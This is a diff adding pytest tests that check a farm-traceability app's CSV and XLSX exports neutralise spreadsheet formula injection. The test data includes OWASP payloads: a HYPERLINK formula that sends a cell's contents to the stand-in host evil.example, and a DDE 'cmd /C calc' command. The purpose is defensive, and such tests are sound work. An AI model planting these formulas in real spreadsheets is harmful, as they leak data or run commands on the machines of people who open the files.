@@ -10,6 +10,7 @@ import io
 import json
 import re
 from collections import Counter
+from datetime import UTC, datetime, timedelta
 
 import pytest
 from fastapi.testclient import TestClient
@@ -122,3 +123,98 @@ def test_a_city_harvest_lot_is_drawn_readably(city):
     assert len(boxes) == sizes[lot] > 10
     items = list(boxes.values())
     assert not any(boxes_overlap(a, b) for i, a in enumerate(items) for b in items[i + 1 :])
+
+
+# --- formula injection (OWASP "CSV Injection"): the classic payloads, recorded through the API -----
+
+# What a spreadsheet may read as a formula's start (OWASP; full-width forms: trace/exports.py).
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+PAYLOADS = {
+    "product": '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
+    "harvest location": "=cmd|' /C calc'!A0",
+    "analyte": "@SUM(1+1)",
+    "inspect location": "+1+1",
+    "recall reason": "-2+3",
+    "recall location": "=1+1",
+    "full-width": "＝1+1",
+}
+# A leading tab or carriage return cannot be signed into a name (the domain refuses leading white
+# space), so `test_tab_and_cr_are_neutralised` gives them to the writers directly.
+
+
+@pytest.fixture
+def injected(tmp_path):
+    """A small ledger whose signed events carry the payloads in product names, locations and details."""
+    from ..api.test_stories import World, out, ref
+    from ..trace.story import COOP, INSPECT_PASS, REGULATOR, STATION
+
+    settings = Settings.from_env(
+        {}, data_dir=tmp_path, database_url=f"sqlite:///{tmp_path / 'db.sqlite'}", log_key=LOG_SIGNER.key_string()
+    )
+    with TestClient(create_app(settings)) as client:
+        w = World(client)
+        w.register_all()
+        product = {"name_zh": PAYLOADS["product"], "name_en": "Cabbage"}
+        wide = {"name_zh": PAYLOADS["full-width"], "name_en": "Cabbage"}
+        w.record(COOP, {"kind": "harvest", "location": {"name": PAYLOADS["harvest location"]},
+                        "outputs": [out("INJ-1", "500", product=product), out("INJ-2", "5", product=wide)],
+                        "detail": {"origin": {"name": "宁乡"}}})
+        w.record(STATION, {"kind": "inspect", "location": {"name": PAYLOADS["inspect location"]},
+                           "inputs": [ref("INJ-1", "500")],
+                           "detail": INSPECT_PASS | {"analyte": PAYLOADS["analyte"]}})
+        w.record(REGULATOR, {"kind": "recall", "location": {"name": PAYLOADS["recall location"]},
+                             "inputs": [ref("INJ-1", "500")],
+                             "detail": {"reason": PAYLOADS["recall reason"], "instructions": "下架"}})  # fmt: skip
+        yield client, w.token(REGULATOR)
+
+
+def _neutral(text: str) -> bool:
+    return text.startswith("'") and text[1:].startswith(FORMULA_TRIGGERS)
+
+
+def test_no_export_cell_is_a_formula(injected):
+    client, auth = injected
+    now = datetime.now(UTC)
+    params = {"since": (now - timedelta(days=2)).isoformat(), "until": (now + timedelta(days=1)).isoformat()}
+    for route in ("/exports/events.{fmt}", "/lots/INJ-1/export.{fmt}"):
+        r = client.get(route.format(fmt="csv"), params=params, headers=auth)
+        assert r.status_code == 200, r.text
+        cells = [c for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for c in row]
+        r = client.get(route.format(fmt="xlsx"), params=params, headers=auth)
+        assert r.status_code == 200, r.text
+        ws = load_workbook(io.BytesIO(r.content)).active
+        xlsx = [c for row in ws.iter_rows() for c in row]
+        assert not [c.coordinate for c in xlsx if c.data_type == "f"]
+        for name, payload in PAYLOADS.items():
+            if name == "full-width" and "INJ-1" in route:
+                continue  # INJ-2 is not in INJ-1's trace
+            shown = [c for c in cells if payload in c] + [c.value for c in xlsx if payload in str(c.value)]
+            assert shown, payload  # every payload reaches both sheets of both exports
+            for text in shown:
+                assert _neutral(text), text
+        # Whatever starts like a formula is neutralised, in every column of both sheets.
+        assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
+        assert all(
+            not isinstance(c.value, str) or not c.value.startswith(FORMULA_TRIGGERS) for c in xlsx
+        )
+        # Numbers stay numbers: the quantity column sums in the workbook.
+        header = [c.value for c in next(ws.iter_rows())]
+        quantities = [row[header.index("数量")] for row in ws.iter_rows(min_row=2, values_only=True)]
+        assert quantities and all(isinstance(q, (int, float)) for q in quantities)
+
+
+@pytest.mark.parametrize("payload", ["\t=1", "\r=1", "\n=1", *PAYLOADS.values()])
+def test_tab_and_cr_are_neutralised(payload):
+    from farmtrace.trace.exports import write_csv, write_xlsx
+
+    row = {"product": payload, "location": payload, "quantity": "5", "price": "-1.5", "ledger_index": 7}
+    buf = io.BytesIO()
+    write_csv([row], buf)
+    body = list(csv.reader(io.StringIO(buf.getvalue().decode("utf-8-sig"))))[1]
+    assert body[5] == body[10] == "'" + payload
+    assert body[6] == "5" and body[13] == "-1.5"  # a negative price stays a number
+    buf = io.BytesIO()
+    write_xlsx([row], buf)
+    cells = next(load_workbook(io.BytesIO(buf.getvalue())).active.iter_rows(min_row=2))
+    assert cells[5].value == cells[10].value == "'" + payload and cells[5].data_type == "s"
+    assert cells[6].value == 5 and cells[13].value == -1.5 and cells[16].value == 7
